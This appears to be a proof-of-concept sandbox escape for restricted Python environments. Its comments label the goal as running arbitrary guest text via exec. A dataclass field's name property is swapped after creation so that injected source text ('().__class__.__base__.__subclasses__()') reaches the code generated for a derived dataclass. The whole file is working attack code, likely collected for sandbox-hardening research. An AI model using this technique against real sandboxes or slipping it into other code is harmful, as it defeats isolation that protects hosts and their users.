# technique: the fields of a dataclass are replaced after it was made; a derived one puts their names into source text
# source: reading pyrestrict and GraalPy's library
# goal: run text of the guest's choice
# impact: exec
import dataclasses
NAME = ['x']
class F(dataclasses.Field):
    name = property(lambda s: NAME[0], lambda s, v: None)
f = F(dataclasses.MISSING, dataclasses.MISSING, True, True, None, True, None, False)
@dataclasses.dataclass
class A:
    x: int = f
A(1)
NAME[0] = 'y=().__class__.__base__.__subclasses__(), x'
@dataclasses.dataclass
class B(A):
    z: int
escaped(B)
